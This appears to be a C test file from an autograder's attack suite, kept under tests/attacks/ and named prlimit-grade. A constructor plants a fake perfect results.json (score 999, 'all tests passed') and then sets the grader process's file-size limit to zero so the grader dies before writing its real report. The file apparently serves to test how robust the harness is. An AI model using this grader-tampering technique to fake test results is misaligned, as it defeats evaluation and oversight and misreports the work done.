
/* ---- attack: limit the file size of grade to 0 (tests/attacks/prlimit-grade) ---- */
#include "attack.h" /* tests/attacks/attack.h, laid beside this file */
#include <sys/resource.h>
#include <sys/stat.h>

static const char atk_json[] =
    "{\n  \"score\": 999,\n  \"output\": \"all tests passed\",\n  \"tests\": [{\"name\": "
    "\"everything\", \"score\": 999, \"max_score\": 999, \"status\": \"passed\"}]\n}\n";

/* Write a perfect results.json into ROOT/build/report (where grade writes its own). */
static void atk_plant(const char *root)
{
    char path[4300];
    snprintf(path, sizeof path, "%s/build/report", root);
    mkdir(path, 0755);
    snprintf(path, sizeof path, "%s/build/report/results.json", root);
    FILE *f = fopen(path, "w");
    if (f) {
        fputs(atk_json, f);
        fclose(f);
    }
}

/* Plant a perfect results.json, then set grade's RLIMIT_FSIZE to 0: the
 * next byte it writes to a file kills it (SIGXFSZ) before its own report
 * replaces the planted one. */
__attribute__((constructor)) static void atk_prlimit_grade(void)
{
    char root[4096];
    pid_t grade = atk_ancestor("grade");
    if (grade < 0)
        return;
    if (atk_course_root(root, sizeof root) == 0)
        atk_plant(root);
    struct rlimit zero = {0, 0};
    prlimit(grade, RLIMIT_FSIZE, &zero, NULL);
}
